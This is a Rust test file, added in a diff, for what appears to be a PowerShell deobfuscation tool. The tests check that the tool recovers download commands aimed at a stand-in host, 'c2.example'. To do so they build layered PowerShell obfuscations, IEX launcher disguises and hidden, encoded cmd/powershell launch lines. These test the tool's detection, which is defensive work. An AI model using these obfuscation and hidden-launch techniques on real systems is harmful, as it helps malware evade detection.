@@ -1,0 +1,221 @@
+//! Obfuscations whose clear text is known: each must be recovered exactly.
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use flate2::Compression;
+use flate2::write::{DeflateEncoder, GzEncoder};
+use std::io::Write;
+use strongroom_files::powershell::{unfold, unfold_command};
+use strongroom_files::script::{Action, Budget, Unfolded};
+use strongroom_model::Limits;
+
+/// A generator of numbers that gives the same ones each time.
+struct Seed(u64);
+
+impl Seed {
+    fn below(&mut self, n: usize) -> usize {
+        self.0 = self
+            .0
+            .wrapping_mul(6364136223846793005)
+            .wrapping_add(1442695040888963407);
+        ((self.0 >> 33) as usize) % n
+    }
+}
+
+fn quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "''"))
+}
+
+fn cut(text: &str, seed: &mut Seed) -> Vec<String> {
+    let chars: Vec<char> = text.chars().collect();
+    let mut parts = Vec::new();
+    let mut from = 0;
+    while from < chars.len() {
+        let to = (from + 1 + seed.below(7)).min(chars.len());
+        parts.push(chars[from..to].iter().collect());
+        from = to;
+    }
+    parts
+}
+
+/// Returns an expression whose value is the text.
+fn disguised(text: &str, seed: &mut Seed) -> String {
+    let mark = format!("~{}~", seed.below(1_000_000));
+    match seed.below(8) {
+        0 => format!(
+            "({})",
+            cut(text, seed)
+                .iter()
+                .map(|part| quoted(part))
+                .collect::<Vec<_>>()
+                .join("+")
+        ),
+        1 => {
+            let parts = cut(text, seed);
+            let mut order: Vec<usize> = (0..parts.len()).collect();
+            for i in (1..order.len()).rev() {
+                order.swap(i, seed.below(i + 1));
+            }
+            let slots: String = (0..parts.len())
+                .map(|index| format!("{{{}}}", order.iter().position(|&at| at == index).unwrap()))
+                .collect();
+            let list: Vec<String> = order.iter().map(|&at| quoted(&parts[at])).collect();
+            format!("(\"{slots}\" -f {})", list.join(","))
+        }
+        2 => {
+            let codes: Vec<String> = text.encode_utf16().map(|unit| unit.to_string()).collect();
+            format!("(-join(({})|%{{[char]$_}}))", codes.join(","))
+        }
+        3 => {
+            let key = 1 + seed.below(30) as u16;
+            let codes: Vec<String> = text.encode_utf16().map(|unit| (unit ^ key).to_string()).collect();
+            format!(
+                "(({} | ForEach-Object {{ [char]($_ -bxor {key:#x}) }}) -join '')",
+                codes.join(",")
+            )
+        }
+        4 => format!("{}.Replace('{mark}','')", quoted(&cut(text, seed).join(&mark))),
+        5 => format!(
+            "(({} -split '{mark}') -join '')",
+            quoted(&cut(text, seed).join(&mark))
+        ),
+        6 => {
+            let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            format!(
+                "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
+                STANDARD.encode(bytes)
+            )
+        }
+        _ => {
+            let back: String = text.chars().rev().collect();
+            format!("(-join {}[-1..-{}])", quoted(&back), back.chars().count())
+        }
+    }
+}
+
+fn launched(code: &str, seed: &mut Seed) -> String {
+    let iex = [
+        "iex",
+        "i`ex",
+        "&('i'+'ex')",
+        ".($PSHome[4]+$PSHome[30]+'x')",
+        ".($ShellId[1]+$ShellId[13]+'x')",
+        "&$env:ComSpec[4,15,25].Invoke",
+    ];
+    match seed.below(5) {
+        0 => format!("{code} | iex"),
+        1 => format!("& ([scriptblock]::Create({code}))"),
+        2 => format!(".($env:ComSpec[4,15,25]-join'') ({code})"),
+        n => format!("{} ({code})", iex[n % 5]),
+    }
+}
+
+fn holds(unfolded: &Unfolded, text: &str) -> bool {
+    unfolded.layers.iter().any(|layer| layer.text == text)
+}
+
+fn downloads(unfolded: &Unfolded) -> Vec<String> {
+    let url = |action: &Action| match action {
+        Action::Download { url, .. } => Some(url.to_string()),
+        _ => None,
+    };
+    unfolded
+        .effects
+        .iter()
+        .filter_map(|effect| url(&effect.action))
+        .collect()
+}
+
+#[test]
+fn every_stack_of_disguises_gives_back_its_clear_text() {
+    let limits = Limits::default();
+    let mut seed = Seed(7);
+    for round in 0..300 {
+        let url = format!("http://c2.example/{round}/it's");
+        let clear = format!("Invoke-WebRequest {}", quoted(&url));
+        let mut script = clear.clone();
+        for _ in 0..=seed.below(2) {
+            let hidden = disguised(&script, &mut seed);
+            script = launched(&hidden, &mut seed);
+        }
+        let unfolded = unfold(&script, &mut Budget::new(&limits));
+        assert!(holds(&unfolded, &clear), "round {round}: {script}\n{unfolded:#?}");
+        assert!(
+            downloads(&unfolded).contains(&url),
+            "round {round}: {script}\n{unfolded:#?}"
+        );
+    }
+}
+
+#[test]
+fn packed_streams_give_back_their_clear_text() {
+    let clear = "Invoke-WebRequest 'http://c2.example/packed'";
+    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
+    gzip.write_all(clear.as_bytes()).unwrap();
+    let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
+    deflate.write_all(clear.as_bytes()).unwrap();
+    for (class, bytes) in [
+        ("Gzip", gzip.finish().unwrap()),
+        ("Deflate", deflate.finish().unwrap()),
+    ] {
+        let script = format!(
+            "$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.{class}Stream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+            STANDARD.encode(bytes)
+        );
+        let limits = Limits::default();
+        let unfolded = unfold(&script, &mut Budget::new(&limits));
+        assert!(holds(&unfolded, clear), "{unfolded:#?}");
+        assert_eq!(downloads(&unfolded), ["http://c2.example/packed"]);
+    }
+}
+
+#[test]
+fn every_launcher_gives_back_its_clear_text() {
+    let clear = "iwr http://c2.example/launched";
+    let encoded = STANDARD.encode(
+        clear
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect::<Vec<u8>>(),
+    );
+    let limits = Limits::default();
+    for line in [
+        format!("powershell -e {encoded}"),
+        format!("powershell.exe -NoP -W Hidden -eNc {encoded}"),
+        format!("pwsh /ec {encoded}"),
+        format!(r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -encodedcommand {encoded}"#),
+        format!("cmd /c powershell -enco {encoded}"),
+        format!("cmd.exe /c start /b powershell -Encoded {encoded}"),
+        format!("cmd /c p^ow^ersh^ell -e {encoded}"),
+        format!("cmd /c \"set a=power&&set b=shell&&call %a%%b% -e {encoded}\""),
+        format!("cmd /v:on /c \"set a=power&&!a!shell -e {encoded}\""),
+        format!("cmd /c echo {clear} | powershell -"),
+        format!("powershell -ExecutionPolicy Bypass -c \"{clear}\""),
+        format!("powershell {clear}"),
+        format!("powershell -c \"powershell -e {encoded}\""),
+    ] {
+        let unfolded = unfold_command(&line, &mut Budget::new(&limits)).expect("the line starts PowerShell");
+        let found = unfolded.layers.iter().any(|layer| layer.text.trim() == clear);
+        assert!(found, "{line}\n{unfolded:#?}");
+        assert_eq!(downloads(&unfolded), ["http://c2.example/launched"], "{line}");
+    }
+    assert!(unfold_command("notepad.exe powershell.txt", &mut Budget::new(&limits)).is_none());
+}
+
+#[test]
+fn deep_and_endless_scripts_end_with_a_gap() {
+    let limits = Limits::default();
+    for script in [
+        "(".repeat(50_000),
+        "{".repeat(50_000),
+        "[int]".repeat(50_000),
+        "function f { f }; f".to_owned(),
+        "$a='x'; while (1) { $a += $a }".to_owned(),
+        "$s='iex $s'; iex $s".to_owned(),
+    ] {
+        let unfolded = unfold(&script, &mut Budget::new(&limits));
+        assert!(!unfolded.gaps.is_empty(), "{:.60}", script);
+    }
+    let long = format!("$a={}'x'", "'a'+".repeat(20_000));
+    assert!(unfold(&long, &mut Budget::new(&limits)).gaps.is_empty());
+}
